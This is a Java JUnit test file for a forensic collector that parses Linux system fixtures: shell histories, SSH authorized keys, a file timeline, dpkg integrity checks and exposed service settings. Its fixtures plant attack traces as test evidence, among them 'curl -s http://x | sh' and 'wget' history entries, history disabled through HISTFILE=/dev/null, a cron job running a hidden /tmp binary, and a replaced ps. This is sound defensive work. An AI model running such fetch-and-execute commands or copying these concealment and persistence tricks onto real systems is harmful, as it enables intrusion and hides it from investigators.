package dev.ferret.collect.linux.access;

import dev.ferret.collect.CollectOptions;
import dev.ferret.model.Snapshot;
import dev.ferret.model.access.AccessFacts;
import dev.ferret.model.access.AccessSnapshot;
import dev.ferret.model.access.FileChange;
import dev.ferret.model.access.HistoryCommand;
import dev.ferret.model.access.HistoryFile;
import dev.ferret.model.access.KeyEntry;
import dev.ferret.model.access.PackageFile;
import dev.ferret.model.access.ServiceConfig;
import dev.ferret.model.access.ServiceVersion;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** Histories, keys, the file timeline, package verification and service settings, collected from fixture trees. */
class HostFactsTest {
    private static final Instant T = Instant.parse("2024-03-10T10:00:00Z");

    @TempDir
    Path root;

    private static AccessFacts run(AccessFixture f, AccessCollector... collectors) {
        Snapshot s = f.snapshot();
        for (AccessCollector c : collectors) {
            c.collect(s, CollectOptions.defaults());
        }
        return AccessSnapshot.of(s);
    }

    @Test
    void historiesWithTheirTimesLinksAndSettings() {
        AccessFixture f = new AccessFixture(root)
                .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\nbob:x:1000:1000::/home/bob:/usr/bin/zsh\n"
                        + "eve:x:1001:1001::/home/eve:/bin/bash\n")
                .file("/root/.bash_history", "#1710064800\nwget http://x/y\nls\n")
                .file("/home/bob/.zsh_history", ": 1710064900:0;curl -s http://x | sh\n")
                .link("/home/eve/.bash_history", "/dev/null")
                .file("/home/eve/.bashrc", "# quiet\nexport HISTFILE=/dev/null\nalias ll='ls -l'\n")
                .file("/etc/profile.d/zz.sh", "unset HISTFILE\n");
        AccessFacts facts = run(f, new HistoryCollector(AccessLimits.defaults()));
        List<HistoryCommand> cmds = facts.commands();
        HistoryCommand wget = cmds.stream().filter(c -> c.command().startsWith("wget")).findFirst().orElseThrow();
        assertEquals(Instant.ofEpochSecond(1710064800), wget.time());
        assertEquals("/root/.bash_history:2", wget.location());
        assertNull(cmds.stream().filter(c -> c.command().equals("ls")).findFirst().orElseThrow().time());
        HistoryCommand curl = cmds.stream().filter(c -> c.user().equals("bob")).findFirst().orElseThrow();
        assertEquals("curl -s http://x | sh", curl.command());
        assertEquals(Instant.ofEpochSecond(1710064900), curl.time());
        HistoryFile eve = facts.histories().stream().filter(h -> h.user().equals("eve")).findFirst().orElseThrow();
        assertTrue(eve.linkedToNull());
        assertEquals(2, facts.historySettings().size(), facts.historySettings().toString());
        assertTrue(facts.historySettings().stream().anyMatch(h -> h.location().equals("/home/eve/.bashrc:2")));
    }

    @Test
    void authorizedKeysWithTheirFileTimes() {
        AccessFixture f = new AccessFixture(root)
                .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\n")
                .file("/root/.ssh/authorized_keys", "# admin\nssh-ed25519 " + AccessScenarios.keyBlob("a") + " admin@x\n"
                        + "command=\"/bin/true\" ssh-rsa " + AccessScenarios.keyBlob("b") + " root@kali\n")
                .mtime("/root/.ssh/authorized_keys", T);
        List<KeyEntry> keys = run(f, new AuthorizedKeysCollector(AccessLimits.defaults())).keys();
        assertEquals(2, keys.size());
        KeyEntry last = keys.get(1);
        assertTrue(last.lastKey());
        assertFalse(keys.get(0).lastKey());
        assertEquals(3, last.line());
        assertEquals("/bin/true", last.forcedCommand());
        assertEquals(T, last.fileMtime());
        assertTrue(last.fingerprint().startsWith("SHA256:"));
    }

    @Test
    void timelineListsRecentFilesAndLinksWithoutFollowingThem() {
        AccessFixture f = new AccessFixture(root)
                .file("/etc/passwd", "root:x:0:0::/root:/bin/bash\n")
                .file("/etc/cron.d/old", "# old\n")
                .file("/etc/cron.d/new", "* * * * * root /tmp/.x\n")
                .bytes("/tmp/.x", "\u007fELF".getBytes(StandardCharsets.ISO_8859_1))
                .link("/usr/bin/helper", "/tmp/.x")
                .file("/var/log/auth.log", AccessFixture.bsd(T, AccessFixture.UTC, "h", "CRON", 1, "x") + "\n");
        f.allModifiedAt(AccessScenarios.OLD);
        f.at("/tmp/.x").toFile().setExecutable(true);
        f.mtime("/etc/cron.d/new", T.minusSeconds(60)).mtime("/tmp/.x", T.minusSeconds(50))
                .mtime("/usr/bin/helper", T.minusSeconds(40)).mtime("/var/log/auth.log", T);
        AccessLimits limits = AccessLimits.defaults();
        AccessFacts facts = run(f, new SyslogCollector(limits), new FileTimelineCollector(limits));
        List<String> paths = facts.fileChanges().stream().map(FileChange::path).toList();
        assertTrue(paths.containsAll(List.of("/etc/cron.d/new", "/tmp/.x", "/usr/bin/helper")), paths.toString());
        assertFalse(paths.contains("/etc/cron.d/old"), "the window is measured from the image's newest log entry");
        FileChange x = facts.fileChanges().stream().filter(c -> c.path().equals("/tmp/.x")).findFirst().orElseThrow();
        assertTrue(x.elf());
        assertEquals("temp", x.role());
        assertEquals("/tmp/.x", facts.fileChanges().stream().filter(c -> c.path().equals("/usr/bin/helper")).findFirst()
                .orElseThrow().linkTarget());
        assertEquals(T.minus(java.time.Duration.ofDays(7)), facts.timelineSince());
    }

    @Test
    void packageFilesAreCheckedAgainstDpkg() {
        byte[] ok = "\u007fELF ok".getBytes(StandardCharsets.ISO_8859_1);
        AccessFixture f = new AccessFixture(root)
                .bytes("/usr/bin/ok", ok)
                .bytes("/usr/bin/ps", "\u007fELF trojan".getBytes(StandardCharsets.ISO_8859_1))
                .bytes("/usr/bin/.hidden", "\u007fELF".getBytes(StandardCharsets.ISO_8859_1))
                .link("/usr/bin/editor", "/etc/alternatives/editor")
                .link("/bin", "usr/bin")
                .file("/var/lib/dpkg/info/procps.list", "/bin/ps\n")
                .file("/var/lib/dpkg/info/procps.md5sums", AccessFixture.md5("\u007fELF real ps"
                        .getBytes(StandardCharsets.ISO_8859_1)) + "  bin/ps\n")
                .file("/var/lib/dpkg/info/okpkg:amd64.md5sums", AccessFixture.md5(ok) + "  usr/bin/ok\n")
                .file("/var/lib/dpkg/info/okpkg:amd64.list", "/usr/bin/ok\n")
                .allModifiedAt(AccessScenarios.OLD);
        List<PackageFile> files = run(f, new PackageIntegrityCollector(AccessLimits.defaults())).packageFiles();
        PackageFile ps = files.stream().filter(p -> p.path().equals("/usr/bin/ps")).findFirst().orElseThrow();
        assertEquals(PackageFile.Status.CHANGED, ps.status(), "/bin/ps of the database is /usr/bin/ps on merged /usr");
        assertEquals("procps", ps.packageName());
        PackageFile hidden = files.stream().filter(p -> p.path().equals("/usr/bin/.hidden")).findFirst().orElseThrow();
        assertEquals(PackageFile.Status.UNKNOWN, hidden.status());
        assertTrue(hidden.elf());
        assertEquals(2, files.size(), files.toString());
    }

    @Test
    void serviceSettingsAndVersions() {
        AccessFixture f = new AccessFixture(root)
                .file("/etc/mysql/mariadb.conf.d/50-server.cnf", "[client]\nbind-address = 0.0.0.0\n[mysqld]\nport = 3307\n"
                        + "bind-address            = 0.0.0.0   # all\n")
                .file("/etc/redis/redis.conf", "# bind 127.0.0.1\nprotected-mode no\nport 6380\n")
                .file("/etc/docker/daemon.json", "{\"hosts\": [\"unix:///var/run/docker.sock\", \"tcp://0.0.0.0:2375\"]}\n")
                .file("/etc/php/8.2/fpm/pool.d/www.conf", "[www]\nuser = root\nlisten = 9000\n")
                .file("/etc/mongod.conf", "net:\n  port: 27017\n  bindIp: 127.0.0.1\n")
                .file("/etc/os-release", "ID=ubuntu\nVERSION_ID=\"18.04\"\n")
                .file("/var/lib/dpkg/status", "Package: redis-server\nStatus: install ok installed\nVersion: 5:5.0.7-2\n\n"
                        + "Package: nginx\nStatus: deinstall ok config-files\nVersion: 1.14.0\n");
        AccessFacts facts = run(f, new ServiceCollector(AccessLimits.defaults()));
        List<ServiceConfig> c = facts.serviceConfigs();
        ServiceConfig mysql = c.stream().filter(x -> x.service().equals("mysql")).findFirst().orElseThrow();
        assertEquals("/etc/mysql/mariadb.conf.d/50-server.cnf:5", mysql.location(), "the [client] section is not the server's");
        assertTrue(mysql.exposed());
        assertEquals(3307, mysql.port());
        ServiceConfig redis = c.stream().filter(x -> x.service().equals("redis") && x.setting().equals("bind")).findFirst()
                .orElseThrow();
        assertTrue(redis.exposed(), "no bind line: every interface");
        assertEquals(6380, redis.port());
        assertTrue(c.stream().anyMatch(x -> x.service().equals("redis") && x.setting().equals("protected-mode")
                && x.value().equals("no")));
        assertTrue(c.stream().anyMatch(x -> x.service().equals("docker") && x.exposed() && x.port() == 2375));
        assertTrue(c.stream().anyMatch(x -> x.service().equals("php-fpm") && x.setting().equals("listen") && x.exposed()
                && x.port() == 9000));
        assertTrue(c.stream().anyMatch(x -> x.service().equals("php-fpm") && x.setting().equals("user")
                && x.value().equals("root")));
        assertTrue(c.stream().noneMatch(x -> x.service().equals("mongodb") && x.exposed()));
        List<ServiceVersion> v = facts.versions();
        assertTrue(v.contains(new ServiceVersion("redis", "redis-server", "5.0.7-2", "/var/lib/dpkg/status")), v.toString());
        assertTrue(v.stream().noneMatch(x -> x.service().equals("nginx")), "removed packages are not installed");
        assertTrue(v.stream().anyMatch(x -> x.text().equals("os ubuntu 18.04")));
    }
}
